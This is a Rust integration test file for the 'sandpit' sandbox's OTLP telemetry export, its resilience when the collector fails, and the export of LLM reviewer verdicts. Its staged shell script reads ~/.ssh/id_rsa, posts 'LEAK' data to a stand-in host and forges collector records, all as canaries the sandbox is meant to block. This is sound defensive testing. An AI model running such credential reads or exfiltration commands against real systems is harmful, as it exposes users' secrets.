#![allow(clippy::unwrap_used, clippy::expect_used)]
//! `[telemetry] otlp_endpoint`: every decision of a run exported as OTLP/HTTP JSON
//! log records to a fake collector on loopback, by the launcher; a collector that
//! is down or never answers neither fails nor holds up the run, and the user is
//! told once. Real `sandpit run`s as the unprivileged test user.
mod common;

use common::sink::Sink;
use common::{text, TestHome};
use serde_json::Value;
use std::io::{BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use common::http1::{read_request, Request};

/// How a server answers a request: a JSON body, or never (`None`: it reads and
/// holds the connection).
type Answer = Arc<dyn Fn(&Request) -> Option<String> + Send + Sync>;

/// A loopback OTLP/HTTP collector: records each request; answers 200 `{}`, or
/// never (`silent`).
struct Collector {
    port: u16,
    got: Arc<Mutex<Vec<Request>>>,
}

impl Collector {
    fn start(silent: bool) -> Collector {
        Collector::answering(Arc::new(move |_| (!silent).then(|| "{}".to_string())))
    }

    fn answering(answer: Answer) -> Collector {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let got: Arc<Mutex<Vec<Request>>> = Arc::default();
        let g = got.clone();
        std::thread::spawn(move || {
            for s in l.incoming() {
                let Ok(s) = s else { continue };
                let (g, a) = (g.clone(), answer.clone());
                std::thread::spawn(move || serve(s, &g, &a));
            }
        });
        Collector { port, got }
    }
    fn requests(&self) -> Vec<Request> {
        self.got.lock().unwrap().clone()
    }
    /// Every log record received, as (resource attributes, record).
    fn records(&self) -> Vec<(Value, Value)> {
        let mut out = vec![];
        for r in self.requests() {
            let v: Value = serde_json::from_slice(&r.body).unwrap();
            for rl in v["resourceLogs"].as_array().unwrap() {
                for sl in rl["scopeLogs"].as_array().unwrap() {
                    for rec in sl["logRecords"].as_array().unwrap() {
                        out.push((rl["resource"]["attributes"].clone(), rec.clone()));
                    }
                }
            }
        }
        out
    }
}

/// HTTP/1.1 requests on one connection, kept alive.
fn serve(s: TcpStream, got: &Mutex<Vec<Request>>, answer: &Answer) {
    let mut w = s.try_clone().unwrap();
    let mut r = BufReader::new(s);
    while let Some(req) = read_request(&mut r) {
        let reply = answer(&req);
        got.lock().unwrap().push(req);
        let Some(reply) = reply else {
            // Hold the connection, answer nothing: the silent server is the
            // subject (the client's own timeout ends the wait).
            std::thread::sleep(Duration::from_secs(120));
            return;
        };
        let _ = write!(
            w,
            "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{reply}",
            reply.len()
        );
    }
}

fn attr<'a>(rec: &'a Value, key: &str) -> &'a Value {
    rec["attributes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["key"] == key)
        .map(|a| &a["value"])
        .unwrap_or(&Value::Null)
}

fn str_attr(rec: &Value, key: &str) -> String {
    attr(rec, key)["stringValue"]
        .as_str()
        .unwrap_or("")
        .to_string()
}

fn int_attr(rec: &Value, key: &str) -> u64 {
    attr(rec, key)["intValue"]
        .as_str()
        .and_then(|v| v.parse().ok())
        .unwrap_or(u64::MAX)
}

const CANARY: &str = "CANARY-otel-51c2";
const EXEC_CANARY: &str = "EXEC-CANARY-9d1e";
/// A token-shaped argument: the local log keeps it, the export masks it.
const TOKEN: &str = "ghp_0123456789abcdefghijABCDEFGHIJ012345";

/// A home whose config exports to `port` and allows `allowed.test` (a loopback
/// sink); a script that reads ~/.ssh, connects to the allowed sink, to
/// `blocked.test` and to the collector itself (a forged record), and runs a
/// blocked command.
fn stage(port: u16, allowed: &Sink, blocked: &Sink) -> TestHome {
    let h = TestHome::new();
    h.write(&h.home().join(".ssh/id_rsa"), CANARY);
    h.user_config(&format!(
            "[telemetry]\notlp_endpoint = \"http://127.0.0.1:{port}\"\n\
             headers = {{ authorization = \"Bearer collector-token\" }}\n\
             [network]\nallow = [\"allowed.test\"]\n\
             [network.resolve]\n\"allowed.test\" = \"127.0.0.2\"\n\"blocked.test\" = \"127.0.0.1\"\n\
             [exec]\nblock = [\"echo {EXEC_CANARY}\"]\n"
        ),
    );
    h.write(
        &h.workspace().join("work.sh"),
        &format!(
            "cat ~/.ssh/id_rsa\n\
             curl -sS --max-time 10 http://allowed.test:{a}/ok; echo\n\
             curl -sS --max-time 10 --data LEAK http://blocked.test:{b}/x; echo\n\
             curl -sS --max-time 10 -H 'content-type: application/json' --data FORGED \
             http://127.0.0.1:{port}/v1/logs; echo\n\
             /bin/echo {EXEC_CANARY} {TOKEN}\n\
             echo done\n",
            a = allowed.port,
            b = blocked.port,
        ),
    );
    h
}

#[test]
fn every_decision_of_a_run_reaches_the_collector_with_its_rule() {
    let collector = Collector::start(false);
    let allowed = Sink::start("127.0.0.2", "allowed");
    let blocked = Sink::start("127.0.0.1", "blocked");
    let h = stage(collector.port, &allowed, &blocked);
    let o = h
        .sandpit_run(false)
        .args(["sh", "work.sh"])
        .output()
        .unwrap();
    let t = text(&o);
    // The effects: the positive controls worked, every attack failed.
    assert!(o.status.success(), "{t}");
    assert!(t.contains("sink:allowed") && t.contains("done"), "{t}");
    assert!(!t.contains(CANARY), "{t}");
    assert!(!t.contains(&format!("\n{EXEC_CANARY}")), "{t}");
    assert_eq!(
        blocked.seen(),
        (0, 0),
        "the blocked host received something"
    );
    assert!(!t.contains("sandpit: telemetry:"), "nothing was lost: {t}");

    let reqs = collector.requests();
    assert!(!reqs.is_empty(), "no export: {t}");
    for r in &reqs {
        // Only the launcher's exports: the sandbox could not reach the collector.
        assert_eq!(
            (r.method.as_str(), r.target.as_str()),
            ("POST", "/v1/logs"),
            "{r:?}"
        );
        assert_eq!(r.header("content-type"), Some("application/json"));
        assert_eq!(r.header("authorization"), Some("Bearer collector-token"));
        assert!(!String::from_utf8_lossy(&r.body).contains("FORGED"));
    }
    let recs = collector.records();
    let (resource, _) = &recs[0];
    let res = |k: &str| {
        resource
            .as_array()
            .unwrap()
            .iter()
            .find(|a| a["key"] == k)
            .map(|a| a["value"]["stringValue"].as_str().unwrap().to_string())
    };
    assert_eq!(res("service.name").as_deref(), Some("sandpit"));
    let run = res("sandpit.run.id").unwrap();
    // The local log holds the same run, and the collector got every record of it
    // but the last (the export's own outcome, written after the export closed).
    let log = h.home().join(format!(".sandpit/logs/{run}.jsonl"));
    let local: Vec<Value> = std::fs::read_to_string(&log)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(recs.len() + 1, local.len(), "{recs:#?}\n{local:#?}");
    let last = local.last().unwrap();
    assert_eq!(last["action"], "telemetry", "{last}");
    assert!(
        last["reason"]
            .as_str()
            .unwrap()
            .starts_with(&format!("{} records exported over OTLP, 0 not", recs.len())),
        "{last}"
    );
    for (res_attrs, r) in &recs {
        assert_eq!(str_attr(r, "sandpit.run.id"), run);
        assert_eq!(res_attrs, resource);
        assert!(r["timeUnixNano"].as_str().unwrap().parse::<u64>().unwrap() > 0);
    }
    let find = |op: &str, decision: &str, target: &str| {
        recs.iter()
            .map(|(_, r)| r)
            .find(|r| {
                str_attr(r, "sandpit.operation") == op
                    && str_attr(r, "sandpit.decision") == decision
                    && str_attr(r, "sandpit.target").contains(target)
            })
            .unwrap_or_else(|| panic!("no {decision} {op} {target}: {recs:#?}"))
            .clone()
    };
    // The denied read: File System Activity, Read, Denied, with the rule's place.
    let ssh = h.home().join(".ssh/id_rsa");
    let read = find("read", "deny", ssh.to_str().unwrap());
    assert_eq!(
        (
            int_attr(&read, "class_uid"),
            int_attr(&read, "activity_id"),
            int_attr(&read, "category_uid"),
            int_attr(&read, "action_id")
        ),
        (1001, 2, 1, 2),
        "{read}"
    );
    assert_eq!(str_attr(&read, "sandpit.layer"), "interposer");
    assert_eq!(str_attr(&read, "sandpit.rule.key"), "files.block_read");
    assert_eq!(str_attr(&read, "sandpit.rule.entry"), "~/.ssh");
    assert!(int_attr(&read, "sandpit.rule.line") > 0, "{read}");
    assert_eq!(read["severityText"], "WARN");
    // The reader's pid, by the kernel's word (its program, when it still ran as the
    // launcher read the report).
    assert!(
        int_attr(&read, "process.pid") < u64::from(u32::MAX),
        "{read}"
    );
    let exe = str_attr(&read, "process.executable.path");
    assert!(exe.is_empty() || exe.ends_with("/cat"), "{read}");
    // The denied connect: Network Activity, Refuse.
    let denied = find("connect", "deny", &format!("blocked.test:{}", blocked.port));
    assert_eq!(
        (
            int_attr(&denied, "class_uid"),
            int_attr(&denied, "activity_id")
        ),
        (4001, 5),
        "{denied}"
    );
    assert_eq!(str_attr(&denied, "sandpit.layer"), "proxy");
    // The allowed connect: Network Activity, Open, Allowed, by its network.allow rule.
    let ok = find(
        "connect",
        "allow",
        &format!("allowed.test:{}", allowed.port),
    );
    assert_eq!(
        (
            int_attr(&ok, "class_uid"),
            int_attr(&ok, "activity_id"),
            int_attr(&ok, "action_id")
        ),
        (4001, 1, 1),
        "{ok}"
    );
    assert_eq!(str_attr(&ok, "sandpit.rule.key"), "network.allow");
    assert_eq!(str_attr(&ok, "sandpit.rule.entry"), "allowed.test");
    assert!(str_attr(&ok, "sandpit.rule.file").ends_with("config.toml"));
    assert_eq!(int_attr(&ok, "sandpit.rule.line"), 5, "{ok}");
    // The denied exec: Process Activity, Launch, Denied, with its argv.
    let exec = find("exec", "deny", EXEC_CANARY);
    assert_eq!(
        (int_attr(&exec, "class_uid"), int_attr(&exec, "activity_id")),
        (1007, 1),
        "{exec}"
    );
    assert_eq!(str_attr(&exec, "sandpit.rule.key"), "exec.block");
    let args = &attr(&exec, "process.command_args")["arrayValue"]["values"];
    assert_eq!(args[1]["stringValue"], EXEC_CANARY, "{exec}");
    // The token in its arguments went out masked; the local log has it as run.
    assert_eq!(args[2]["stringValue"], "[REDACTED]", "{exec}");
    assert!(std::fs::read_to_string(&log).unwrap().contains(TOKEN));
    for r in collector.requests() {
        let body = String::from_utf8_lossy(&r.body);
        assert!(!body.contains(TOKEN), "a token was exported");
        assert!(
            !body.contains("collector-token"),
            "the header's token was exported"
        );
    }
    // The sandbox's own attempt to post to the collector was refused, and recorded;
    // the same probe outside the sandbox reaches it.
    find("connect", "deny", &format!("127.0.0.1:{}", collector.port));
    let bare = h
        .command("curl")
        .args(["-sS", "--max-time", "10", "--data", "FORGED"])
        .arg(format!("http://127.0.0.1:{}/v1/logs", collector.port))
        .output()
        .unwrap();
    assert!(bare.status.success(), "{}", text(&bare));
    assert!(collector.requests().iter().any(|r| r.body == b"FORGED"));
}

/// A collector that is down, or that takes the request and never answers: the run
/// neither fails nor waits on it, and says once what was not exported.
#[test]
fn a_collector_down_or_silent_neither_fails_nor_holds_up_the_run() {
    let down = {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let silent = Collector::start(true);
    for (port, what) in [(down, "down"), (silent.port, "silent")] {
        let allowed = Sink::start("127.0.0.2", "allowed");
        let blocked = Sink::start("127.0.0.1", "blocked");
        let h = stage(port, &allowed, &blocked);
        let started = Instant::now();
        let o = h
            .sandpit_run(false)
            .args(["sh", "work.sh"])
            .output()
            .unwrap();
        let took = started.elapsed();
        let t = text(&o);
        assert!(o.status.success(), "{what}: {t}");
        assert!(
            t.contains("sink:allowed") && t.contains("done"),
            "{what}: {t}"
        );
        assert!(!t.contains(CANARY), "{t}");
        // A generous bound: the export's end waits 2 s at most, a request 5 s.
        assert!(took < Duration::from_secs(30), "{what}: took {took:?}");
        assert_eq!(
            t.matches("sandpit: telemetry:").count(),
            1,
            "{what}: told once: {t}"
        );
        assert!(
            t.contains("records were not exported to http://127.0.0.1:"),
            "{t}"
        );
        // And recorded in the local log, which has every record.
        let logs: Vec<_> = std::fs::read_dir(h.home().join(".sandpit/logs"))
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        let log = std::fs::read_to_string(&logs[0]).unwrap();
        let last: Value = serde_json::from_str(log.lines().last().unwrap()).unwrap();
        assert_eq!(last["action"], "telemetry", "{what}: {last}");
        assert!(
            last["reason"].as_str().unwrap().contains("not exported"),
            "{last}"
        );
        assert!(log.contains("\"action\":\"read\""), "{log}");
    }
    // The silent collector did get the request it never answered.
    assert!(!silent.requests().is_empty());
}

/// The reviewer's verdicts are events too: layer `reviewer`, the rule
/// `adversary`, allowed and denied commands alike; the denial the summary shows
/// stays the interposer's.
#[test]
fn the_reviewers_verdicts_are_exported_as_events() {
    let collector = Collector::start(false);
    // An OpenAI-compatible endpoint that denies any command mentioning the marker.
    let llm = Collector::answering(Arc::new(|r: &Request| {
        let verdict = if String::from_utf8_lossy(&r.body).contains("made-by-touch") {
            "DENY: the rules forbid touching files"
        } else {
            "ALLOW: harmless"
        };
        Some(format!(
            "{{\"id\":\"x\",\"object\":\"chat.completion\",\"choices\":[{{\"index\":0,\"message\":{{\"role\":\"assistant\",\"content\":\"{verdict}\"}},\"finish_reason\":\"stop\"}}]}}"
        ))
    }));
    let h = TestHome::new();
    h.user_config(&format!(
            "[telemetry]\notlp_endpoint = \"http://127.0.0.1:{}\"\n\
             [adversary]\nprovider = \"openai\"\nmodel = \"test\"\nendpoint = \"http://127.0.0.1:{}/v1\"\n\
             rules = \"Never modify files with touch.\"\ntimeout_ms = 5000\n",
            collector.port, llm.port
        ),
    );
    let o = h
        .sandpit_run(false)
        .args([
            "sh",
            "-c",
            "ls >/dev/null && echo listed; touch made-by-touch; echo done",
        ])
        .output()
        .unwrap();
    let t = text(&o);
    assert!(t.contains("listed") && t.contains("done"), "{t}");
    assert!(!h.workspace().join("made-by-touch").exists(), "{t}");
    let recs: Vec<Value> = collector.records().into_iter().map(|(_, r)| r).collect();
    let reviewer = |target: &str, decision: &str| {
        recs.iter()
            .find(|r| {
                str_attr(r, "sandpit.layer") == "reviewer"
                    && str_attr(r, "sandpit.decision") == decision
                    && str_attr(r, "sandpit.target").starts_with(target)
            })
            .unwrap_or_else(|| panic!("no reviewer {decision} of {target}: {recs:#?}"))
            .clone()
    };
    let denied = reviewer("touch made-by-touch", "deny");
    assert_eq!(
        str_attr(&denied, "sandpit.rule.key"),
        "adversary",
        "{denied}"
    );
    assert!(
        str_attr(&denied, "sandpit.reason").contains("forbid touching"),
        "{denied}"
    );
    assert_eq!(int_attr(&denied, "class_uid"), 1007);
    reviewer("ls", "allow");
    // The summary counts the interposer's refusals, not the verdicts behind them too.
    assert!(!t.contains("[reviewer"), "{t}");
}
